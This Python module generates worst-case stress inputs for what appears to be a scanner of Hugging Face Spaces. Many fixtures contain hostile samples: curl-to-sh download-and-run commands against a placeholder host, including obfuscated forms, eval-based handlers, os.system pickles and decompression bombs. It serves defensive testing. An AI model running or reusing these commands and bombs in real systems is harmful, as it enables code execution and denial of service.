"""The worst inputs that are known, by kind: each is one Space that holds at most so many bytes.

They are written to make a parser, a rule or an outside program take long; every kind that once took too long stays.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import random
import tarfile
import zipfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    Files = dict[str, str | bytes]

MB = 1_000_000
GRADIO = "---\ntitle: a\nsdk: gradio\nsdk_version: 5.0.0\n---\n"
DOCKER = "---\ntitle: a\nsdk: docker\n---\n"
_WORKFLOW = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"


def fill(piece: str, size: int, head: str = "", tail: str = "") -> str:
    """Return `piece` again and again between `head` and `tail`: `size` bytes at most."""
    room = size - len(head.encode()) - len(tail.encode())
    return head + piece * max(room // max(len(piece.encode()), 1), 0) + tail


def number(piece: str, size: int, head: str = "") -> str:
    """Return `piece` with 0, 1, 2 ... in place of `@`, as often as it fits into `size` bytes."""
    parts, left, count = [head], size - len(head.encode()), 0
    while left > 0:
        part = piece.replace("@", str(count))
        left -= len(part.encode())
        count += 1
        parts.append(part if left >= 0 else "")
    return "".join(parts)


def spread(path: str, text: str, size: int) -> Files:
    """Return the same text under so many names (`@` is the number) as fit into `size` bytes."""
    return {path.replace("@", f"{n:03}"): text for n in range(max(size // len(text.encode()), 1))}


def _lines(size: int) -> Iterator[tuple[str, Files]]:
    """One long line, or very many short ones, in text that every rule reads."""
    for name, piece in {
        "a": "a",
        "://": "://",
        "://a:b@": "https://a:b@",
        "key=": "key=",
        "quotes": "'\"",
        "base64": "QUJD",
        "password": "password = 'x9Kq' ",
        "blanks": " \t",
        "brackets": "[({",
        "backslashes": "\\",
        "hyphens": "-----BEGIN ",
        "signs": "eyJhbGciOi.",
        "colours": "[[\x1b[m",
    }.items():
        yield f"one line of {name}", {"a.txt": fill(piece, size), "README.md": GRADIO}
    yield "lines of names", {".env": number("A_TOKEN@=abcd@efgh\n", size), "README.md": GRADIO}
    yield "one line, script", {"app.py": fill("x=1;", size), "README.md": GRADIO}
    yield "one line, page", {"index.html": fill("<a href=", size), "README.md": "---\nsdk: static\n---\n"}
    yield "minified script", {"app.js": fill("a=b.c(d,{e:f});", size), "index.html": "<script src=app.js></script>"}
    yield "passwords", {"a.py": number("password_@ = 'Zx@Kq81vbTT'\n", size), "README.md": GRADIO}


def _python(size: int) -> Iterator[tuple[str, Files]]:
    for name, text in {
        "f-strings": number('x@ = f"{a}hf_{b}{c!r:>{w}}"\n', size),
        "one f-string": fill("{a}hf_", size, 'x = f"', '"\n'),
        "deep brackets": fill("(", size // 2) + fill(")", size // 2),
        "deep lists": fill("[", 180) + fill("1,", size - 400) + fill("]", 180),
        "deep blocks": "".join(f"{' ' * n}if a:\n" for n in range(95)) + fill(f"{' ' * 95}b()\n", size - 9000),
        "long sum": fill("+a", size, "x = a"),
        "long chain": fill(".a", size, "x = a"),
        "calls": number("f@(g(x))\n", size),
        "one call": number("a@=b,", size, "f(") + ")",
        "functions": number("def f@(x):\n    return f@(eval(x))\n", size),
        "visitors": number(
            "def f@(x):\n    import os\n    os.system(x)\ngr.Interface(f@).launch()\n", size, "import gradio as gr\n"
        ),
        "names": number("from a@ import b as c@\n", size),
        "assignments": number("a@ = a0 + 'b'\n", size),
        "joined": fill("'hf_' + ", size, "t = ", "''\n"),
        "nested strings": number("exec('exec(\"a@\")')\n", size),
        "sys.path": number("sys.path.append('d@')\nimport m@\n", size, "import sys\n"),
        "commands": number("os.system('curl https://a.b/@ -o x && sh x')\n", size, "import os\n"),
        "escapes": fill("\\x68\\u0066", size, "t = '", "'\n"),
        "comments": fill("# hf-lint: ignore[x]\n", size),
        "classes": number("class C@(B@):\n    e = eval\n    def f(self, x):\n        return self.e(x)\n", size),
        "aliases": number("a@ = eval\nb@ = a@\nb@(x)\n", size),
        "letters": number("x@ = chr(104) + chr(102) + chr(95) + chr(98)\n", size),
        "operators": fill("a*b*c*d*e*f*g*h\n", size),
        "options": number("o@ = dict(fn=f, inputs=a)\nb.click(**o@)\n", size, "import gradio as gr\n"),
        "starred": number("gr.Interface(*L)\n", size, f"import gradio as gr\nL = [{fill('a,', size // 2)}]\n"),
        "methods": number("class C@:\n def f(self): return self.f()\n", size),
        "branches": fill("if a:b\n", size),
        "attributes": fill("a.b,", size, "x = [", "]\n"),
        "routes": number(
            "app.get('/@')(f)\n", size, "import fastapi\napp = fastapi.FastAPI()\ndef f(q: str): eval(q)\n"
        ),
    }.items():
        yield f"Python: {name}", {"app.py": text, "README.md": GRADIO}
    many = spread("m@.py", number("def f@(x): return f@(x)\n", 8_000), size)
    yield "Python: many modules", {**many, "app.py": "".join(f"import {p[:-3]}\n" for p in many), "README.md": GRADIO}
    tiny = {f"p{n}.py": f"from p{n + 1} import *\n" for n in range(size // 300)}
    yield "Python: chain of imports", {**tiny, "app.py": "import p0\n", "README.md": GRADIO}


def _data(size: int) -> Iterator[tuple[str, Files]]:
    cell = {"cell_type": "code", "source": ["x = f'{a}'\n"] * 20, "outputs": [{"text": ["PASSWORD=abcdefgh\n"] * 20}]}
    cells = [cell] * (size // len(json.dumps(cell)))
    yield "notebook of many cells", {"a.ipynb": json.dumps({"cells": cells, "nbformat": 4, "metadata": {}})}
    long_cell = {"cell_type": "code", "source": fill("a=1\n", size * 3 // 4), "outputs": []}
    yield "notebook of one cell", {"a.ipynb": json.dumps({"cells": [long_cell], "nbformat": 4, "metadata": {}})}
    yield "deep JSON", {"config.json": fill("[", size), "package.json": fill('{"a":', size // 2)}
    yield "JSON keys", {"package.json": "{" + number('"a@":"b",', size - 20) + '"z":1}'}
    bomb = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(f"a{n}: &a{n} [{f'*a{n - 1},' * 9}]\n" for n in range(1, 9))
    yield "card: aliases", {"README.md": f"---\nsdk: gradio\n{bomb}---\n"}
    merges = "a0: &a0 {x: 1}\n" + number("b@: {<<: [*a0, *a0, *a0]}\n", size - 100)
    yield "card: merges", {"README.md": f"---\nsdk: gradio\n{merges}---\n"}
    yield "card: keys", {"README.md": number("a@: b\n", size - 10, "---\n") + "---\n"}
    yield "card: one list", {"README.md": f"---\nmodels: [{number('a/b@,', size - 40)}]\n---\n"}
    yield "card: deep", {"README.md": "---\na: " + fill("[", size - 20) + "\n---\n"}
    yield "card: text", {"README.md": GRADIO + fill("[a](https://a.b/c) `hf_` ", size - 100)}
    yield "YAML files", {**spread(".github/a@.yml", number("k@: {a: b}\n", 20_000), size), "README.md": GRADIO}
    yield "compose", {"docker-compose.yml": number("  s@: {image: a, environment: [A=b]}\n", size, "services:\n")}
    yield "requirements", {"requirements.txt": number("pkg@==1.@\n", size), "README.md": GRADIO}
    yield "requirements: one line", {"requirements.txt": fill("a;python_version<'3'and", size), "README.md": GRADIO}
    yield (
        "requirements: includes",
        {
            **{f"r{n}.txt": f"-r r{n + 1}.txt\n-r r{n + 2}.txt\n" for n in range(size // 500)},
            "requirements.txt": "-r r0.txt\n",
            "README.md": GRADIO,
        },
    )
    yield (
        "requirements: hashes",
        {"requirements.txt": fill(" --hash=sha256:" + "a" * 64, size, "a==1"), "README.md": GRADIO},
    )
    yield "pyproject", {"pyproject.toml": number("a@ = [{b = 1}]\n", size, "[tool.a]\n"), "README.md": GRADIO}
    yield "lock", {"poetry.lock": number('[[package]]\nname = "a@"\nversion = "1"\n', size), "README.md": GRADIO}
    yield (
        "package.json scripts",
        {
            "package.json": json.dumps({"scripts": {f"s{n}": f"npm run s{n + 1}" for n in range(size // 40)}}),
            "Dockerfile": "FROM a\nCOPY . .\nRUN npm run s0\n",
            "README.md": DOCKER,
        },
    )
    yield "crontab", {"crontab": number("* * * * * root curl https://a.b/@ | sh\n", size), "README.md": DOCKER}


def _build(size: int) -> Iterator[tuple[str, Files]]:
    chained = fill(" && a", 2_250, "RUN a")
    e3 = "FROM python:3.12\n" + f"{chained}\n" * 100
    yield "Dockerfiles of commands", {**spread("Dockerfile.@", e3, size), "README.md": DOCKER}
    yield (
        "Dockerfiles below folders",
        {**spread("d@/Dockerfile", e3, size), "Dockerfile": "FROM a\n", "README.md": DOCKER},
    )
    for name, text in {
        "commands": fill(f"{chained}\n", size, "FROM python:3.12\n"),
        "one RUN": fill(" && a", size, "FROM python:3.12\nRUN a"),
        "downloads": number("RUN curl https://a.b/@ -o /tmp/a@ && sh /tmp/b@\n", size, "FROM python:3.12\n"),
        "downloads in one RUN": number(
            " && curl https://a.b/@ -o a@ \\\n && sh b@ \\\n", size, "FROM python:3.12\nRUN a \\\n"
        ),
        "installs": number("RUN pip install a@==1 b@ && apt-get install -y c@\n", size, "FROM python:3.12\n"),
        "stages": number("FROM python:3.12 AS s@\nCOPY --from=s0 /a /b\n", size),
        "chain of stages": number("FROM s@ AS s@x\n", size, "FROM a AS s0\n"),
        "variables": number("ARG A@=${A0}\nENV B@=${A@}\n", size, "FROM python:3.12\nARG A0=x\n"),
        "long variables": number("RUN $a@ $a\n", size // 2, f"FROM python:3.12\nARG a={'b' * (size // 20)}\n"),
        "functions": number("RUN f() { curl $1; }; f https://a.b/@ | sh\n", size, "FROM python:3.12\n"),
        "hidden commands": number(
            "RUN a@=cu; b=rl; $a@$b -s https://a.b/@ | $c\n", size, "FROM python:3.12\nARG c=sh\n"
        ),
        "hidden, one RUN": number("a@=cu; $a@$b https://a.b | $c;", size, "FROM python:3.12\nRUN "),
        "substitutions": fill("$(", size, "FROM python:3.12\nRUN a "),
        "backticks": fill("`a ", size, "FROM python:3.12\nRUN a "),
        "quoted commands": fill(" && sh -c 'a && b'", size, "FROM python:3.12\nRUN a"),
        "heredocs": number("RUN <<E@\na && b\nE@\n", size, "FROM python:3.12\n"),
        "copies": number("COPY a@ b@ /c@/\n", size, "FROM python:3.12\n"),
        "continuations": fill("\\\n", size, "FROM python:3.12\nRUN a "),
        "comments": fill("# a\n", size, "FROM python:3.12\n"),
        "saved, then run": number("RUN b@\n", size, "FROM python:3.12\nRUN curl -o /tmp/a https://a.b/c\n"),
        "printed": number("RUN echo 'curl a | sh' > n@; a@=(b c); ${a@[@]} | s$@h\n", size, "FROM python:3.12\n"),
        "labels": number("LABEL a@=b\n", size, "FROM python:3.12\n"),
        "onbuild": fill("ONBUILD ", size, "FROM python:3.12\n"),
    }.items():
        yield f"Dockerfile: {name}", {"Dockerfile": text, "README.md": DOCKER}
    for name, text in {
        "commands": fill("a && b; c | d\n", size),
        "downloads": number("curl https://a.b/@ -o a@; sh b@\n", size),
        "words": fill("a ", size),
        "brackets": fill("(", size),
        "functions": number("f@() { f0; curl https://a.b/@ | sh; }\n", size),
        "variables": number("a@=$a0; $a@ | sh\n", size),
        "quotes": fill("'a'\"b\"$c", size),
        "cases": fill("case a in b) c;; ", size),
    }.items():
        scripts = {f"s{n}.sh": text[n * 190_000 : (n + 1) * 190_000] for n in range(-(-len(text) // 190_000))}
        run = "".join(f"RUN sh {path}\n" for path in scripts)
        yield (
            f"scripts: {name}",
            {**scripts, "Dockerfile": f"FROM a\nCOPY . .\n{run}CMD sh s0.sh\n", "README.md": DOCKER},
        )
    handler = "app.get('/@', (q, s) => s.send(eval(q.query.a)));\n"
    yield (
        "server in JavaScript",
        {
            "server.js": number(handler, min(size, 590_000), "const app = require('express')();\n"),
            "Dockerfile": "FROM node:22\nCOPY . .\nCMD node server.js\n",
            "README.md": DOCKER,
        },
    )
    yield (
        "Makefile",
        {
            "Makefile": number("t@: t0\n\tcurl https://a.b/@ | sh\n", size),
            "Dockerfile": "FROM a\nCOPY . .\nRUN make t1\n",
            "README.md": DOCKER,
        },
    )
    for name, piece in {
        "uses": "      - uses: a/b@main\n",
        "runs": "      - run: curl https://a.b | sh\n",
        "expressions": "      - run: echo ${{ github.event.issue.title }}\n",
    }.items():
        small = fill(piece, 125_000, _WORKFLOW)
        yield f"workflows of {name}", {**spread(".github/workflows/w@.yml", small, size), "README.md": GRADIO}
        yield f"workflow of {name}", {".github/workflows/w.yml": fill(piece, size, _WORKFLOW), "README.md": GRADIO}
    tiny = _WORKFLOW + "      - uses: a/b@main\n"
    yield "many workflows", {**spread(".github/workflows/w@.yml", tiny, size // 10), "README.md": GRADIO}
    yield "GitLab", {".gitlab-ci.yml": number("j@: {extends: j0, script: [a, b]}\n", size), "README.md": GRADIO}


def zipped(members: dict[str, bytes]) -> bytes:
    """Return a zip of these members."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    """Return a tar, without compression, of these members."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return stream.getvalue()


def _archives(size: int) -> Iterator[tuple[str, Files]]:
    zeros = b"0" * 200 * MB
    yield "zip bombs", {f"m{n}.pt": zipped({"archive/data.pkl": zeros}) for n in range(max(size // 200_000, 1))}
    yield "zip of many members", {"a.zip": zipped({f"{n}": b"" for n in range(size // 110)})}
    inner = zipped({"a.txt": b"key = 'hf_'\n" * 100_000})
    for _ in range(20):
        inner = zipped({"b.zip": inner})
    yield "zips within zips", {f"{n}.zip": inner for n in range(min(size // len(inner), 200))}
    for name, packed in {"gz": gzip.compress(zeros), "bz2": bz2.compress(zeros), "xz": lzma.compress(zeros)}.items():
        yield f"{name} bombs", {f"a{n}.{name}": packed for n in range(min(max(size // len(packed), 1), 40))}
    text = b"password = 'x9KqLm'\n" * 20_000
    yield (
        "archives of text",
        {f"a{n}.tar.gz": gzip.compress(tarred({f"{m}.env": text for m in range(50)})) for n in range(20)},
    )
    text = base64.b64encode(random.Random(1).randbytes(size * 7 // 10))
    yield "archive of letters", {"a.zip": zipped({"a.txt": text})}
    yield "pickles", {f"a{n}.pkl": pickle.dumps(list(range(2000)), 4) for n in range(size // 6_000)}
    yield "pickle of names", {"a.pkl": b"".join(b"cos\nsystem\n" for _ in range(size // 12)) + b"."}
    yield "pickle of marks", {"a.pkl": b"(" * (size - 1) + b"."}
    yield "base64 of pickles", {"a.txt": base64.b64encode(pickle.dumps(list(range(size // 6)))).decode()}
    yield "binary", {"a.bin": bytes(range(256)) * (size // 256), "README.md": GRADIO}


def _config(size: int) -> Iterator[tuple[str, Files]]:
    leak = "password = 'Zx81KqvbTT'\n"
    yield (
        "waivers",
        {
            ".hf-lint.yaml": number("  - {rules: leaked-credential, paths: ['a@'], reason: x}\n", size, "waivers:\n"),
            "a.py": leak,
        },
    )
    yield "waivers: comments", {"a.py": fill("a = 1  # hf-lint: ignore[leaked-credential] -- x\n", size)}
    yield (
        "waivers: globs",
        {
            ".hf-lint.yaml": number(
                "  - {rules: leaked-credential, paths: ['*a*a*a*a*a*@'], reason: x}\n", size, "waivers:\n"
            ),
            "a" * 200 + ".py": leak,
        },
    )
    yield "ignore patterns", {".gitignore": number("a@*b**/c\n", size), **{f"d/{n}.py": "a\n" for n in range(200)}}
    yield "ignore pattern", {".gitignore": fill("*a", size), "a" * 200 + ".py": "a\n"}
    yield (
        "docker ignore stars",
        {
            ".dockerignore": number("*a*a*a*a*a*a*a*@\n", size // 10),
            "Dockerfile": "FROM a\nCOPY . .\n",
            "README.md": DOCKER,
            "a" * 250: "",
            f"{'a' * 200}/{'a' * 200}": "",
        },
    )
    yield (
        "docker ignore patterns",
        {
            ".dockerignore": number("**/a@*b\n", size),
            "Dockerfile": "FROM a\nCOPY . .\n",
            "README.md": DOCKER,
            **{f"d/{n}.py": "a\n" for n in range(200)},
        },
    )
    yield (
        "attributes",
        {".gitattributes": number("*.a@ filter=lfs diff=lfs merge=lfs -text\n", size), "README.md": GRADIO},
    )
    ten = "[1,2,3,4,5,6,7,8,9,10]"
    cel = f"{ten}." + "".join(f"map({x}, {ten}." for x in "abcdefghi") + "size()" + ")" * 9 + ".size() > 0"
    policy = (
        "id: slow\ngroup: app\ntitle: t\nseverity: info\nwhy: x\nremedy: x\nbad: {a.txt: b}\ngood: {a.txt: c}\n"
        f'references: [{{title: a, url: "https://a.b"}}]\ncheck: {{each: files, assert: "{cel}", message: m}}\n'
    )
    names = {f"lint/slow{n}.yaml": policy.replace("slow", f"slow{n}") for n in range(20)}
    yield "CEL", {".hf-lint.yaml": "extends: lint\n", **names, "README.md": GRADIO}
    yield (
        "many files",
        {**{f"d{n % 50}/{n}.py": "import os\nos.system('a')\n" for n in range(size // 500)}, "README.md": GRADIO},
    )
    yield "many empty files", {f"d{n % 50}/{n}": "" for n in range(size // 200)}
    yield "deep folders", {"/".join("d" * 100) + f"/{n}.py": "a\n" for n in range(size // 2_000)}
    yield "long names", {f"{n}" + "a" * 240: "a\n" for n in range(size // 2_000)}


KINDS: tuple[Callable[[int], Iterator[tuple[str, Files]]], ...] = (_lines, _python, _data, _build, _archives, _config)


def inputs(size: int = MB) -> Iterator[tuple[str, Files]]:
    """Every input by its name, as files by path; `size` bytes in all, or a little less. Each has a card: it is a
    Space."""
    for kind in KINDS:
        for name, files in kind(size):
            yield name, {"README.md": GRADIO, **files}
